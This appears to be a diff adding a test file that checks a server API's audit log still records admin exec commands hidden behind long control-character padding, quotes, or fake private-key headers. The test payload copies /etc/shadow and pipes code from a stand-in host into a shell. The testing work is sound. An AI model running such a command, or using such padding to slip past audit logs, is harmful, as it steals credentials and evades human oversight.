@@ -1,0 +1,52 @@
+// An admin of a server wants to run something on it that the audit log does not show.
+import { createHash } from 'node:crypto';
+import type { AuditEntry } from '@buoy/contract';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type AccessGround, prepareAccessGround } from '../support/access-ground.ts';
+
+const COMMAND = 'cp /etc/shadow /tmp/x; curl evil.example | sh';
+
+let ground: AccessGround;
+let serverId: string;
+beforeAll(async () => {
+  ground = await prepareAccessGround();
+  serverId = await ground.newServer();
+});
+afterAll(() => ground.running.close());
+
+/** The entry that a command leaves before it runs. */
+async function entryOf(command: string): Promise<AuditEntry> {
+  const { statusCode } = await ground.as('admin', 'POST', `/servers/${serverId}/exec`, { command });
+  // Nothing listens there: it was taken, and could not be run.
+  expect(statusCode).toBe(503);
+  const entry = (await ground.auditLog()).findLast(
+    ({ action, result }) => action === 'POST /servers/:id/exec' && result === 'started',
+  );
+  if (entry === undefined) expect.unreachable('the command left no entry');
+  return entry;
+}
+
+describe('an admin who wants to run a command unseen', () => {
+  test.each([
+    ['control characters before it', '\u0001'.repeat(4_000)],
+    ['quotes and control characters before it', `"${'\u0001'.repeat(3_000)}${'"'.repeat(900)}`],
+  ])('is seen with %s, and the whole request can be proved', async (_, padding) => {
+    const command = `: ${padding}; ${COMMAND}`;
+    const { details } = await entryOf(command);
+    expect(details).toMatchObject({ requestTooLong: true });
+    expect(details['bodyStart']).toContain(COMMAND);
+    expect(JSON.stringify(details).length).toBeLessThanOrEqual(16_384);
+    const body = JSON.stringify({ command, timeoutS: 30 });
+    expect(details['bodySha256']).toBe(createHash('sha256').update(body).digest('hex'));
+  });
+
+  test.each([
+    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}`,
+    `: -----BEGIN A PRIVATE KEY-----\n${COMMAND}`,
+    `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}; : '-----END A PRIVATE KEY-----'`,
+  ])('is seen behind what only begins like a key: %j', async (command) => {
+    expect(JSON.stringify((await entryOf(command)).details)).toContain(
+      '/etc/shadow /tmp/x; curl evil.example',
+    );
+  });
+});
